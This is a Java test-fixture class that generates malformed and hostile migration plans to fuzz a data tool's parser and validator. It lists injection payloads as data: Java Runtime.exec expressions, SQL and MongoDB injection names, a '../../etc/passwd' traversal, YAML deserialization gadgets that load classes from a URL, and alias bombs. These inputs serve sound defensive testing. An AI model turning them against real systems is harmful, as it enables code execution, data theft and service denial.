package dev.ferry.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * A generated corpus of broken and hostile plans: every plan element with a value of every wrong type, unknown keys
 * at every level, deep nesting, oversized and alias-bomb YAML, invalid or mis-decoded text, self-referring templates,
 * expressions that reach for Java classes or files, and names that look like SQL or MongoDB injection.
 */
final class MalformedPlans {

    /** One input: its file name (the extension picks the syntax), its bytes, and what kind of fault it carries. */
    record Input(String kind, String fileName, byte[] bytes) {
        String text() {
            return new String(bytes, StandardCharsets.UTF_8);
        }

        @Override
        public String toString() {
            String t = text();
            return kind + " " + fileName + ": " + (t.length() > 160 ? t.substring(0, 160) + "…" : t);
        }
    }

    static final String BASE = """
            name: corpus
            source: { collection: src, key: _id, filter: {} }
            batch: { size: 10 }
            targets:
              - collection: out
                id: { from: _id }
                fields:
                  name: { from: name, default: anon }
                  tag: { template: "{name}-x" }
                  n: { expr: "size(items)", when: "!empty(items)" }
                  at: { from: at, convert: date }
            guardrails: { max_error_rate: 0.5, min_records: 1000, on_breach: pause }
            validation:
              - count: {}
            rollback: { strategy: undo-log, verify: true }
            """;

    /** Paths into the base plan, each replaced by values of every type. */
    private static final List<String> PATHS = List.of("name", "source", "source.collection", "source.key",
            "source.filter", "batch", "batch.size", "targets", "targets.0", "targets.0.collection", "targets.0.id",
            "targets.0.fields", "targets.0.fields.name", "targets.0.fields.name.from", "targets.0.fields.name.default",
            "targets.0.fields.tag.template", "targets.0.fields.n.expr", "targets.0.fields.n.when",
            "targets.0.fields.at.convert", "guardrails", "guardrails.max_error_rate", "guardrails.on_breach",
            "validation", "validation.0", "rollback", "rollback.strategy");

    /** Mappings that an unknown key is added to. */
    private static final List<String> MAPPINGS = List.of("", "source", "batch", "targets.0", "targets.0.id",
            "targets.0.fields.name", "guardrails", "validation.0", "validation.0.count", "rollback");

    static final List<String> HOSTILE_EXPRESSIONS = List.of(
            "java.lang.Runtime.getRuntime().exec('touch /tmp/ferry-canary')",
            "new('java.io.File', '/tmp/ferry-canary').createNewFile()",
            "new java.io.File('/tmp/ferry-canary')",
            "''.getClass().forName('java.lang.Runtime')",
            "name.getClass()",
            "name.class",
            "name.class.classLoader",
            "java.lang.System.exit(1)",
            "System.getenv()",
            "Math.random()",
            "name.length()",
            "name.toString()",
            "x = 1",
            "var x = 1; x",
            "for (var i : items) { i }",
            "while (true) { 1 }",
            "function(x) { x }",
            "(x) -> x",
            "#pragma jexl.import java.lang\nRuntime",
            "import java.io.File",
            "__proto__",
            "this",
            "items.size()",
            "items.clear()",
            "size(items",
            "1 +",
            "'unterminated",
            "${name}",
            "` + name + `",
            "empty(items) ? items.iterator() : 0");

    static final List<String> SUSPICIOUS_NAMES = List.of("users; DROP TABLE users; --", "' OR '1'='1",
            "\"; DROP TABLE x; --", "$where", "$cmd", "system.users", "a..b", ".a", "a.", "ferry_runs", "",
            "x".repeat(300), "src", "a\u0000b", "Robert'); DROP TABLE Students;--", "{\"$gt\": \"\"}",
            "../../etc/passwd", "café", "空の", "a b");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final YAMLMapper YAML = new YAMLMapper();

    private MalformedPlans() {
    }

    static List<Input> all() {
        List<Input> inputs = new ArrayList<>();
        wrongTypes(inputs);
        unknownKeys(inputs);
        templates(inputs);
        expressions(inputs);
        names(inputs);
        deepAndLarge(inputs);
        badText(inputs);
        shapes(inputs);
        return inputs;
    }

    private static void wrongTypes(List<Input> inputs) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> values = List.of(f.numberNode(42), f.numberNode(-1), f.numberNode(3.5), f.booleanNode(true),
                f.nullNode(), f.textNode("text"), f.textNode(""), f.arrayNode().add(1).add("two"),
                f.objectNode().put("x", 1));
        int i = 0;
        for (String path : PATHS) {
            for (JsonNode value : values) {
                ObjectNode plan = base();
                set(plan, path, value.deepCopy());
                inputs.add(write("wrong type at " + path, plan, i++ % 2 == 0));
            }
        }
    }

    private static void unknownKeys(List<Input> inputs) {
        int i = 0;
        for (String path : MAPPINGS) {
            ObjectNode plan = base();
            JsonNode at = path.isEmpty() ? plan : node(plan, path);
            ((ObjectNode) at).put("bogus_key", "x");
            inputs.add(write("unknown key in " + (path.isEmpty() ? "the plan" : path), plan, i++ % 2 == 0));
        }
    }

    private static void templates(List<Input> inputs) {
        List<String> fields = List.of(
                "a: { template: \"{a}\" }",
                "a: { template: \"{b}\" }\n      b: { template: \"{a}\" }",
                "a: { template: \"{b}\" }\n      b: { template: \"{c}\" }\n      c: { template: \"{a}\" }",
                "a: { template: \"{nope}\" }",
                "a: { template: \"{a\" }",
                "a: { template: \"{}\" }",
                "a: { template: \"{{a}}\" }",
                "a: { template: \"{${a}}\" }",
                "a:\n        each: items\n        fields:\n          s: { template: \"{s}\" }",
                "a: { template: \"{a.b}\" }\n      a.b: { template: \"{a}\" }");
        for (String field : fields) {
            inputs.add(utf8("template", "t.yaml", withFields(field)));
        }
    }

    private static void expressions(List<Input> inputs) {
        for (String e : HOSTILE_EXPRESSIONS) {
            String quoted = JSON.valueToTree(e).toString();
            inputs.add(utf8("expression", "e.yaml", withFields("a: { expr: " + quoted + " }")));
            inputs.add(utf8("when", "w.yaml", withFields("a: { from: name, when: " + quoted + " }")));
        }
    }

    private static void names(List<Input> inputs) {
        for (String name : SUSPICIOUS_NAMES) {
            for (String path : List.of("name", "source.collection", "targets.0.collection", "source.key",
                    "targets.0.id.from")) {
                ObjectNode plan = base();
                set(plan, path, JsonNodeFactory.instance.textNode(name));
                inputs.add(write("suspicious name at " + path, plan, true));
            }
            ObjectNode field = base();
            ((ObjectNode) node(field, "targets.0.fields")).putObject(name).put("from", "name");
            inputs.add(write("suspicious field name", field, false));
            ObjectNode table = base();
            ((ObjectNode) node(table, "targets.0")).remove("collection");
            ((ObjectNode) node(table, "targets.0")).put("table", name);
            inputs.add(write("suspicious table name", table, false));
        }
    }

    private static void deepAndLarge(List<Input> inputs) {
        for (int depth : new int[] {50, 900, 5_000, 100_000}) {
            inputs.add(utf8("value nested " + depth + " deep (YAML flow)", "d.yaml",
                    withFields("a: { value: " + "[".repeat(depth) + "]".repeat(depth) + " }")));
            StringBuilder json = new StringBuilder();
            for (int i = 0; i < depth; i++) {
                json.append("{\"k\":");
            }
            json.append("1").append("}".repeat(depth));
            ObjectNode plan = base();
            String text = plan.toString().replace("\"anon\"", json.toString());
            inputs.add(utf8("default nested " + depth + " deep (JSON)", "d.json", text));
        }
        StringBuilder block = new StringBuilder(withFields("a:\n        value:"));
        for (int i = 0; i < 2_000; i++) {
            block.append("\n").append("  ".repeat(5 + i)).append("k").append(i).append(":");
        }
        inputs.add(utf8("block mapping nested 2,000 deep", "b.yaml", block + " 1\n"));
        inputs.add(utf8("4 MB string", "big.yaml", withFields("a: { value: \"" + "x".repeat(4_000_000) + "\" }")));
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            many.append("f").append(i).append(": { from: name }\n      ");
        }
        inputs.add(utf8("20,000 fields", "many.yaml", withFields(many.toString().strip())));
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
                    .append(p).append(", *").append(p).append(", *").append(p).append(", *").append(p).append("]\n");
        }
        inputs.add(utf8("alias bomb", "bomb.yaml", BASE + "extra:\n" + bomb.toString().indent(2)));
        inputs.add(utf8("alias bomb in a value", "bomb2.yaml", bomb + withFields("z: { value: *k }")));
    }

    private static void badText(List<Input> inputs) {
        byte[] latin1 = BASE.replace("name: corpus", "name: caf\u00e9").getBytes(StandardCharsets.ISO_8859_1);
        inputs.add(new Input("Latin-1 text", "latin1.yaml", latin1));
        inputs.add(new Input("UTF-16 text", "utf16.yaml", BASE.getBytes(StandardCharsets.UTF_16)));
        inputs.add(new Input("invalid UTF-8 bytes", "ff.yaml", concat(BASE.getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc3})));
        inputs.add(new Input("invalid UTF-8 in a name", "ff2.yaml",
                BASE.replace("name: corpus", "name: co\u0001rpus").getBytes(StandardCharsets.UTF_8)));
        byte[] bad = BASE.getBytes(StandardCharsets.UTF_8);
        bad[8] = (byte) 0xc3; // inside "corpus": a lead byte with no continuation
        inputs.add(new Input("truncated UTF-8 sequence", "trunc.yaml", bad));
        inputs.add(utf8("NUL character", "nul.yaml", BASE.replace("corpus", "cor\u0000pus")));
        inputs.add(utf8("lone surrogate escape", "sur.json", base().toString().replace("corpus", "\\ud800")));
        inputs.add(utf8("byte order mark", "bom.yaml", "\uFEFF" + BASE));
        inputs.add(utf8("mojibake", "moji.yaml", BASE.replace("name: corpus", "name: cafÃ©")));
        inputs.add(utf8("right-to-left override", "rtl.yaml", BASE.replace("name: corpus", "name: a\u202eb")));
        inputs.add(utf8("tabs for indent", "tab.yaml", BASE.replace("  - collection: out", "\t- collection: out")));
        inputs.add(utf8("CR line ends", "cr.yaml", BASE.replace("\n", "\r")));
        inputs.add(new Input("binary", "bin.yaml", new byte[] {0, 1, 2, 3, (byte) 0x89, 'P', 'N', 'G', 0, 0}));
    }

    private static void shapes(List<Input> inputs) {
        for (String text : List.of("", "   \n", "# only a comment\n", "---\n", "[]", "42", "null", "~", "\"a plan\"",
                "- name: a\n- name: b\n", BASE + "---\n" + BASE, BASE + "name: twice\n", "{", "{\"name\": }",
                "name: [unclosed", "&a name: *a", "!!java.io.File /etc/passwd",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                BASE.replace("name: corpus", "name: !!binary aGVsbG8="), BASE.replace("batch: { size: 10 }",
                        "batch: { size: 99999999999999999999999 }"), BASE.replace("batch: { size: 10 }",
                        "batch: { size: .nan }"), BASE.replace("batch: { size: 10 }", "batch: { size: 0 }"),
                BASE.replace("max_error_rate: 0.5", "max_error_rate: -3"), BASE.replace("max_error_rate: 0.5",
                        "max_error_rate: .inf"))) {
            inputs.add(utf8("shape", "s.yaml", text));
        }
        inputs.add(utf8("yaml as json", "s.json", BASE));
    }

    // ---- helpers

    static ObjectNode base() {
        try {
            return (ObjectNode) YAML.readTree(BASE);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String withFields(String fields) {
        return """
                name: corpus
                source: { collection: src }
                targets:
                  - collection: out
                    id: { from: _id }
                    fields:
                      """ + fields + "\n";
    }

    private static JsonNode node(JsonNode root, String path) {
        JsonNode at = root;
        for (String part : path.split("\\.")) {
            at = at.isArray() ? at.get(Integer.parseInt(part)) : at.get(part);
        }
        return at;
    }

    private static void set(ObjectNode root, String path, JsonNode value) {
        int dot = path.lastIndexOf('.');
        JsonNode parent = dot < 0 ? root : node(root, path.substring(0, dot));
        String last = path.substring(dot + 1);
        if (parent.isArray()) {
            ((ArrayNode) parent).set(Integer.parseInt(last), value);
        } else {
            ((ObjectNode) parent).set(last, value);
        }
    }

    private static Input write(String kind, ObjectNode plan, boolean asJson) {
        try {
            return asJson ? utf8(kind, "p.json", JSON.writerWithDefaultPrettyPrinter().writeValueAsString(plan))
                    : utf8(kind, "p.yaml", YAML.writeValueAsString(plan));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Input utf8(String kind, String fileName, String text) {
        return new Input(kind, fileName, text.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
